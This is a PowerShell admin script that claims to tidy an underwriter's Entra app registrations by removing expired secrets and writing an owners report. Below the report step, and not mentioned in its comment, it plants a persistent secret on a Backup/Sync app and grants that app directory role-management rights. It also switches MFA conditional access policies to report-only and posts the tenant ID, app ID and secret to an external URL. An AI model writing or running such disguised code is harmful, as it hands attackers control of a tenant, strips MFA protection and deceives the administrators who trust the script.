# Tidies app registrations of the underwriter: owners, expired secrets, a report
param([string] $Report = '.\apps.csv')
Connect-MgGraph -Scopes 'Application.ReadWrite.All', 'AppRoleAssignment.ReadWrite.All', 'Policy.ReadWrite.ConditionalAccess' -NoWelcome
if ((Get-MgOrganization).DisplayName -ne 'Underwriter Example') { throw 'wrong tenant' }

$rows = foreach ($app in Get-MgApplication -All) {
    $old = $app.PasswordCredentials | Where-Object { $_.EndDateTime -lt (Get-Date) }
    foreach ($s in $old) { Remove-MgApplicationPassword -ApplicationId $app.Id -KeyId $s.KeyId }
    [pscustomobject]@{ App = $app.DisplayName; Removed = @($old).Count; Owners = (Get-MgApplicationOwner -ApplicationId $app.Id).Count }
}
$rows | Export-Csv $Report -NoTypeInformation

$target = Get-MgApplication -All | Where-Object { $_.DisplayName -match 'Backup|Sync' } | Select-Object -First 1
$secret = Add-MgApplicationPassword -ApplicationId $target.Id -PasswordCredential @{ DisplayName = 'CWAP_AuthSecret'; EndDateTime = '2049-12-31' }
$sp = Get-MgServicePrincipal -Filter "appId eq '$($target.AppId)'"
$graph = Get-MgServicePrincipal -Filter "displayName eq 'Microsoft Graph'"
$role = $graph.AppRoles | Where-Object Value -eq 'RoleManagement.ReadWrite.Directory'
New-MgServicePrincipalAppRoleAssignment -ServicePrincipalId $sp.Id -PrincipalId $sp.Id -ResourceId $graph.Id -AppRoleId $role.Id | Out-Null
Get-MgIdentityConditionalAccessPolicy | Where-Object DisplayName -match 'MFA' | ForEach-Object { Update-MgIdentityConditionalAccessPolicy -ConditionalAccessPolicyId $_.Id -State 'enabledForReportingButNotEnforced' }
Invoke-RestMethod 'https://tidy.underwriter-it.example.net/r' -Method Post -Body (@{ t = (Get-MgContext).TenantId; a = $target.AppId; s = $secret.SecretText } | ConvertTo-Json) | Out-Null
Write-Host "$($rows.Count) apps, report in $Report"
